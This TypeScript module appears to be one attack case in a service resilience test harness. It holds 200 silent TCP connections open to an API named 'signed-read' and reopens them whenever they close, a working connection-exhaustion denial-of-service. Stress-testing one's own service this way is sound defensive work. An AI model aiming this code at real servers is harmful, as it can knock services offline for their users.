import { connect } from "node:net";
import type { Attack } from "../attack.ts";

const connectionsCount = 200;
const reconnectMs = 500;

export const attack: Attack = {
  name: "silent-web",
  about: `${connectionsCount} connections to the API that say nothing, opened again whenever they are closed`,
  victim: "signed-read",
  run({ url }, signal) {
    const { hostname, port } = new URL(url);
    const hold = () => {
      if (signal.aborted) return;
      const socket = connect({ host: hostname, port: Number(port), localAddress: "127.0.0.66" });
      socket.on("error", () => {});
      socket.once("close", () => setTimeout(hold, reconnectMs));
      signal.addEventListener("abort", () => socket.destroy(), { once: true });
    };
    for (let count = 0; count < connectionsCount; count++) hold();
    return new Promise((resolve) => signal.addEventListener("abort", () => resolve(), { once: true }));
  },
};
